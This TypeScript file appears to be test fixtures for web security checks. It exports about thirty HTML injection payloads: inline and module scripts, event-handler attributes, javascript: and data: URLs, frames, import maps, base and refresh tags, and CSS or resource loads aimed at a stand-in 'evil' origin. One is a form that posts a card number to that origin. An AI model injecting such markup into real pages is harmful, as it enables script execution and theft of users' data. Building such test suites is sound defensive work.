/** Injected markup that would run, load or send something without the page's defences. */
export interface Payload {
  name: string
  /** `evil` is the origin to reach. Whatever runs sets `window.__x`. */
  html: (evil: string) => string
  /** Only outside of the rendered part of the page: rendering would remove it before it takes effect. */
  outsideOnly?: true
}

const RUN = 'window.__x=1'

export const PAYLOADS: readonly Payload[] = [
  { name: 'an inline script', html: () => `<script>${RUN}</script>` },
  { name: 'an inline module', html: () => `<script type="module">${RUN}</script>` },
  { name: 'a script with a nonce', html: () => `<script nonce="abc">${RUN}</script>` },
  { name: 'a script of another site', html: (evil) => `<script src="${evil}/x.js"></script>` },
  {
    name: 'a script with the hash of another site',
    html: (evil) =>
      `<script src="${evil}/x.js" crossorigin integrity="sha384-${'A'.repeat(64)}"></script>`,
  },
  { name: 'a script of our own site', html: () => '<script src="/favicon.svg"></script>' },
  { name: 'a script in its address', html: () => `<script src="data:,${RUN}"></script>` },
  {
    name: 'an import map',
    html: (evil) => `<script type="importmap">{"imports":{"./":"${evil}/"}}</script>`,
  },
  {
    name: 'rules of speculation',
    html: (evil) =>
      `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${evil}/s"]}]}</script>`,
  },
  { name: 'a handler of an image', html: () => `<img src="x:" onerror="${RUN}">` },
  { name: 'a handler in a drawing', html: () => `<svg onload="${RUN}"></svg>` },
  { name: 'a handler of details', html: () => `<details open ontoggle="${RUN}">x</details>` },
  { name: 'a frame', html: (evil) => `<iframe src="${evil}/f"></iframe>` },
  {
    name: 'a frame with its text',
    html: () => `<iframe srcdoc="<script>parent.__x=1</script>"></iframe>`,
  },
  {
    name: 'a frame with a script address',
    html: () => `<iframe src="javascript:parent.${RUN.slice(7)}"></iframe>`,
  },
  { name: 'an object', html: (evil) => `<object data="${evil}/o"></object>` },
  { name: 'an embedded file', html: (evil) => `<embed src="${evil}/e">` },
  { name: 'a base', html: (evil) => `<base href="${evil}/">` },
  {
    name: 'a form',
    html: (evil) => `<form id="steal" action="${evil}/s"><input name="card" value="4242"></form>`,
    outsideOnly: true,
  },
  {
    name: 'a refresh',
    html: (evil) => `<meta http-equiv="refresh" content="0;url=${evil}/r">`,
  },
  {
    name: 'a style',
    html: (evil) => `<style>@import "${evil}/i.css";body{background:url(${evil}/b)}</style>`,
  },
  { name: 'a sheet of styles', html: (evil) => `<link rel="stylesheet" href="${evil}/s.css">` },
  { name: 'a style of an element', html: (evil) => `<p style="background:url(${evil}/p)">x</p>` },
  { name: 'a picture', html: (evil) => `<img src="${evil}/i.png">` },
  { name: 'a film', html: (evil) => `<video src="${evil}/v.mp4" autoplay muted></video>` },
  { name: 'a prefetch', html: (evil) => `<link rel="prefetch" href="${evil}/p">` },
  { name: 'a preload', html: (evil) => `<link rel="preload" as="script" href="${evil}/p.js">` },
  { name: 'a preloaded module', html: (evil) => `<link rel="modulepreload" href="${evil}/m.js">` },
]
